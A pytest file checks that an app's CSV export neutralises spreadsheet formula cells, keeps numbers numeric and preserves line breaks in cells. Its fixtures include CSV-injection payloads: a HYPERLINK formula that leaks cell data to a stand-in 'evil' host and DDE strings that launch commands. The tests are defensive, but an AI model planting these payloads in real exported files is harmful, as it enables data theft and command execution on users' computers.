"""The one CSV writer (core/data/csvout.py): text cells a spreadsheet would run as formulas are
neutralised in every CSV the app offers; numbers stay numbers; pandas reads the file back."""

import io

import numpy as np
import pandas as pd
import pytest

from core.data import csvout

FORMULAS = ["=HYPERLINK(\"http://evil/?\"&A1,\"Read\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_cell_is_neutralised_with_a_quote(cell):
    assert csvout.neutralised(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["plain text", "-0.5", "+3", "1e-3", "", "2020-01-01", "a=b", "it's -ok"])
def test_ordinary_text_and_numbers_written_as_text_are_kept(cell):
    assert csvout.neutralised(cell) == cell


def test_numbers_stay_numbers_and_the_file_reads_back():
    table = pd.DataFrame({"text": FORMULAS, "score": np.linspace(-0.5, 0.5, len(FORMULAS)),
                          "count": np.arange(len(FORMULAS)) - 3, "flag": [True, False] * (len(FORMULAS) // 2)})
    back = pd.read_csv(io.StringIO(csvout.to_csv(table)), keep_default_na=False)
    assert list(back["text"]) == ["'" + cell for cell in FORMULAS]
    np.testing.assert_allclose(back["score"], table["score"])  # -0.5 stays the number -0.5
    assert list(back["count"]) == list(table["count"]) and back["score"].dtype.kind == "f"
    assert list(back["flag"]) == list(table["flag"])
    assert list(table["text"]) == FORMULAS  # the caller's table is not changed


def test_mixed_object_columns_and_headers():
    table = pd.DataFrame({"=evil": ["=1", 2.5, None, -1]}, dtype=object)
    back = pd.read_csv(io.StringIO(csvout.to_csv(table)), dtype=str, keep_default_na=False)
    assert list(back.columns) == ["'=evil"] and back["'=evil"].tolist() == ["'=1", "2.5", "", "-1"]


def test_a_line_break_inside_a_cell_stays_inside_it():
    """A bare CR in a sentence went out unquoted (the writer only quoted "\n") and split the row."""
    table = pd.DataFrame({"text": ["one\rtwo", "three\nfour", "five"], "p": [0.1, 0.2, 0.3]})
    back = pd.read_csv(io.StringIO(csvout.to_csv(table)))
    assert back["text"].tolist() == table["text"].tolist() and back["p"].tolist() == table["p"].tolist()


def test_every_download_button_goes_through_the_writer(monkeypatch):
    from core.ui import page

    offered = {}
    monkeypatch.setattr(page.st, "download_button", lambda label, data, *a, **k: offered.update(data=data))
    page.download_table("Scored (CSV)", pd.DataFrame({"text": ["=1+1"], "p": [-0.5]}), "x.csv")
    assert offered["data"].splitlines() == ["text,p", "'=1+1,-0.5"]


def test_scored_sentences_with_formulas_are_neutralised_after_text_cleaning():
    """The issue's case: a sentence file whose cells start with a tab and then '=': cleaning the
    text removes the tab, and the scored table must still not carry a live formula."""
    from core.tasks.sentiment import scored

    content = "text\n\"\t=HYPERLINK(\"\"http://evil/x\"\",\"\"Read\"\")\"\n@SUM(1+1)*cmd|' /C calc'!A0\nProfit rose\n"
    read = scored.read(content.encode())
    n = len(read.texts)
    scores = {"probs_model": np.full((n, 3), 1 / 3), "probs_tfidf_logreg": np.full((n, 3), 1 / 3),
              "pred_lexicon": np.zeros(n, int)}
    rows = pd.read_csv(io.StringIO(csvout.to_csv(scored.table(read, scores))))
    assert rows["text"].tolist() == ["'=HYPERLINK(\"http://evil/x\",\"Read\")", "'@SUM(1+1)*cmd|' /C calc'!A0",
                                     "Profit rose"]
    assert rows["p_negative"].dtype.kind == "f"
